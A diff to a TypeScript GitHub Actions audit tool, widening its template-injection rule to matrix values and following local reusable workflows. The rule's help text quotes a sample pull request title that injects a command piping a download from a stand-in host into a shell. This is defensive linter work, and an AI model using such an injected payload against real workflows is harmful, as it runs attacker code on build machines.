@@ -39,7 +39,7 @@ export const AUDIT_RULES: readonly AuditRule[] = [
   {
     id: 'template-injection',
     summary: 'Untrusted text is pasted into a `run:` script or a github-script `script:` by a `${{ }}` expression',
-    help: 'GitHub substitutes `${{ }}` before the shell runs, so a pull request title such as `"; curl evil | sh #` becomes code. Put the value in the step\'s `env:` and read it as data (`"$PR_TITLE"`, `process.env.PR_TITLE`). This includes `env.X`, `steps.s.outputs.o` and `needs.j.outputs.o` that hold untrusted text.',
+    help: 'GitHub substitutes `${{ }}` before the shell runs, so a pull request title such as `"; curl evil | sh #` becomes code. Put the value in the step\'s `env:` and read it as data (`"$PR_TITLE"`, `process.env.PR_TITLE`). This includes `env.X`, `steps.s.outputs.o`, `needs.j.outputs.o` and `matrix.*` that hold untrusted text.',
     level: 'error',
     securitySeverity: '9.0',
   },
@@ -210,7 +210,11 @@ export function ignoreProblems(file: string, text: string): string[] {
 
 /** What an audit needs besides the file. @internal */
 export interface AuditContext {
-  /** Reads a file of the repository (for scripts a step runs), or undefined when absent. */
+  /**
+   * Reads a file of the repository, or undefined when absent: scripts a step
+   * runs, and reusable workflows a job calls (`./.github/workflows/<file>`),
+   * whose outputs may carry untrusted text.
+   */
   readonly readRepoFile?: (relativePath: string) => string | undefined;
 }
 
@@ -283,7 +287,7 @@ function auditWorkflow(src: Source, root: Mapping, add: Add, context: AuditConte
 
   walkWorkflow(root, trust, (jobId, _job, { step, index, trust: stepTrust }) => {
     stepRules(src, ['jobs', jobId, 'steps', index], step, stepTrust, add);
-  });
+  }, callResolver(context));
 
   for (const [id, raw] of Object.entries(jobs)) {
     if (!isMapping(raw)) continue;
@@ -367,6 +371,29 @@ function auditWorkflow(src: Source, root: Mapping, add: Add, context: AuditConte
       }
     }
   }
+}
+
+/**
+ * Reads the reusable workflows of the repository that jobs call
+ * (`uses: ./.github/workflows/<file>`), for the outputs that carry untrusted
+ * text; a file that is absent or not YAML is not followed.
+ */
+function callResolver(context: AuditContext): (uses: string) => Mapping | undefined {
+  const cache = new Map<string, Mapping | undefined>();
+  return (uses) => {
+    if (!/^\.\/\.github\/workflows\/[^@]+\.ya?ml$/.test(uses)) return undefined;
+    if (!cache.has(uses)) {
+      const text = context.readRepoFile?.(uses.slice(2));
+      let doc: unknown;
+      try {
+        doc = text === undefined ? undefined : YAML.parse(text);
+      } catch {
+        doc = undefined;
+      }
+      cache.set(uses, isMapping(doc) ? doc : undefined);
+    }
+    return cache.get(uses);
+  };
 }
 
 /** Rules for one step: pinning and template injection. */
